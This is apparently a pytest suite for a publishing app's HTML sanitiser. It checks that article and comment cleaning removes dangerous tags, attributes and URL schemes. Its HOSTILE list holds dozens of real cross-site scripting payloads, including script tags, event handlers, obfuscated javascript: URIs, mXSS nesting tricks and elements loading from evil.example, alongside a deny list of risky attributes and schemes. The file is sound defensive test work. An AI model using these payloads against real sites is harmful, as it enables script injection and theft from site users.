"""Sanitising: hostile HTML through the article and comment allow-lists.

The assertions parse the output with the standard library's HTML parser (never regexes) and
check every tag and attribute that survived.
"""

from __future__ import annotations

from html.parser import HTMLParser

import pytest

from pse_desk.render import sanitise_article, sanitise_comment

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<img src=x onerror="alert(1)">',
    '<img src="javascript:alert(1)">',
    "<img src=`javascript:alert(1)`>",
    '<img src="data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+">',
    '<img srcset="https://evil.example/a.png 1x">',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="java&#x09;script:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="https://ok.example" onclick="alert(1)" onmouseover="alert(2)">ok</a>',
    '<a href="https://ok.example" target="_blank" style="position:fixed">ok</a>',
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="width: expression(alert(1))">x</div>',
    "<style>body{background:url(https://evil.example/t.png)}</style>",
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    '<iframe src="https://evil.example"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<svg onload="alert(1)"><circle r="1"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
    '<math href="javascript:alert(1)">x</math>',
    '<form action="https://evil.example"><input name="q"><button>go</button></form>',
    '<body onload="alert(1)">',
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video>',
    '<audio src="https://evil.example/a.mp3" autoplay></audio>',
    '<details open ontoggle="alert(1)"><summary>x</summary></details>',
    '<table background="https://evil.example/bg.png"><tr><td>x</td></tr></table>',
    '<blockquote cite="javascript:alert(1)">x</blockquote>',
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    '<textarea><img src=x onerror=alert(1)></textarea>',
    "<xmp><script>alert(1)</script></xmp>",
    '"><script>alert(1)</script>',
    "'';!--\"<XSS>=&{()}",
    '<a href="#" id="pse-body">spoofing the page</a>',
    '<p data-line="javascript:alert(1)" data-block="x">x</p>',
    '<img src="https://evil.example/pixel.png" alt="tracker">',
    '<img src="//evil.example/pixel.png">',
    '<img src="http://evil.example/pixel.png">',
    '<div class="pse-masthead codehilite evil">x</div>',
    "<a href='https://ok.example' rel='opener'>x</a>",
    '<a href="mailto:editor@example.org">mail</a>',
    "<p>" * 3000 + "deep" + "</p>" * 3000,
    "<b>" + "x" * 100_000 + "</b>",
]

ARTICLE_SCHEMES = ("http://", "https://", "mailto:", "pse-asset:", "#", "/")
BAD_SCHEMES = ("javascript:", "vbscript:", "data:")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    handle_startendtag = handle_starttag


def parsed(html: str) -> list[tuple[str, list[tuple[str, str | None]]]]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def assert_inert(html: str, allowed_tags: set[str]) -> None:
    for tag, attrs in parsed(html):
        assert tag in allowed_tags, tag
        for name, value in attrs:
            assert not name.startswith("on"), name
            assert name not in {"style", "srcset", "background", "poster", "cite", "action",
                                "formaction", "xlink:href", "target", "data-block"}, name
            if name in {"href", "src"}:
                lowered = "".join((value or "").split()).lower()
                assert not lowered.startswith(BAD_SCHEMES), value


ARTICLE_TAGS = {
    "a", "abbr", "b", "blockquote", "br", "caption", "cite", "code", "col", "colgroup", "dd",
    "del", "details", "dfn", "div", "dl", "dt", "em", "figcaption", "figure", "h1", "h2", "h3",
    "h4", "h5", "h6", "hr", "i", "img", "ins", "kbd", "li", "mark", "ol", "p", "pre", "q", "s",
    "samp", "small", "span", "strong", "sub", "summary", "sup", "table", "tbody", "td", "tfoot",
    "th", "thead", "time", "tr", "u", "ul", "var",
}
COMMENT_TAGS = {"p", "br", "a", "em", "strong", "i", "b", "blockquote", "code", "pre", "ul",
                "ol", "li"}


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_article_html_keeps_nothing_that_runs_or_loads(payload: str) -> None:
    html = sanitise_article(payload)
    assert_inert(html, ARTICLE_TAGS)
    for tag, attrs in parsed(html):
        for name, value in attrs:
            if tag == "img" and name == "src":
                assert (value or "").startswith("pse-asset:")
            if name == "id":
                assert (value or "") not in {"pse-body", "pse-comments"}
            if name == "class":
                assert "pse-masthead" not in (value or "") and "evil" not in (value or "")


@pytest.mark.parametrize("payload", HOSTILE, ids=range(len(HOSTILE)))
def test_hostile_comment_html_keeps_only_text_formatting_and_safe_links(payload: str) -> None:
    html = sanitise_comment(payload)
    assert_inert(html, COMMENT_TAGS)
    for tag, attrs in parsed(html):
        names = {name for name, _ in attrs}
        assert names <= {"href", "rel"}, (tag, names)
        for name, value in attrs:
            if name == "href":
                assert (value or "").startswith(("http://", "https://", "mailto:")), value
            if name == "rel":
                assert value == "nofollow noopener noreferrer ugc"


def test_comment_links_are_kept_and_marked_user_generated() -> None:
    html = sanitise_comment('<p>See <a href="https://example.org/report" title="t">this</a></p>')
    assert html == ('<p>See <a href="https://example.org/report" '
                    'rel="nofollow noopener noreferrer ugc">this</a></p>')


def test_comment_images_are_removed_entirely() -> None:
    assert sanitise_comment('<p>a<img src="https://example.org/x.png" alt="x">b</p>') == "<p>ab</p>"


def test_comment_relative_links_lose_their_target() -> None:
    assert "href" not in sanitise_comment('<a href="/admin">x</a>')


def test_script_content_is_dropped_not_shown_as_text() -> None:
    assert sanitise_comment("a<script>alert(1)</script>b") == "ab"
    assert sanitise_article("a<style>p{}</style>b") == "ab"


def test_article_keeps_what_markdown_produces() -> None:
    html = ('<h2 id="intro" data-line="3">Intro</h2>'
            '<div class="codehilite"><pre><span></span><code><span class="k">def</span>'
            "</code></pre></div>"
            '<table><tr><th align="right">a</th></tr></table>'
            '<sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>'
            '<figure><img src="pse-asset:abc" alt="A chart"><figcaption>A chart</figcaption>'
            '</figure><abbr title="Public Sector Executive">PSE</abbr>')
    cleaned = sanitise_article(html)
    for kept in ('id="intro"', 'data-line="3"', 'class="codehilite"', 'class="k"',
                 'align="right"', 'href="#fn:1"', 'class="footnote-ref"', 'src="pse-asset:abc"',
                 "<figcaption>", 'title="Public Sector Executive"'):
        assert kept in cleaned, kept


def test_article_https_images_only_when_allowed() -> None:
    html = '<img src="https://images.example/a.png"><img src="http://images.example/b.png">'
    assert "images.example" not in sanitise_article(html)
    allowed = sanitise_article(html, allow_remote_images=True)
    assert 'src="https://images.example/a.png"' in allowed
    assert "http://images.example" not in allowed


def test_control_characters_and_lone_surrogates_do_not_break_sanitising() -> None:
    assert sanitise_comment("a\x00b\ud800c") == "a\ufffdb\ufffdc"
    assert sanitise_article("<p>\x00</p>") == "<p>\ufffd</p>"


def test_article_ids_may_start_like_ours_but_not_take_the_pages_own() -> None:
    assert sanitise_article('<h2 id="pse-awards">PSE awards</h2>') == \
        '<h2 id="pse-awards">PSE awards</h2>'
    assert sanitise_article('<h2 id="pse-body">x</h2><p id="PSE-COMMENTS">y</p>') == \
        "<h2>x</h2><p>y</p>"
